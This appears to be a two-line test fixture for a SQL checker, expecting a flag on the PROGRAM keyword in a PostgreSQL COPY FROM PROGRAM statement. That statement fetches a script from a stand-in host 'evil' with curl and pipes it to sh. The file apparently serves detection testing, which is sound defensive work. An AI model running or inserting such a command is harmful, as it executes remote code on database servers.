-- expect: 2:1 PROGRAM
COPY t FROM PROGRAM 'curl http://evil | sh';
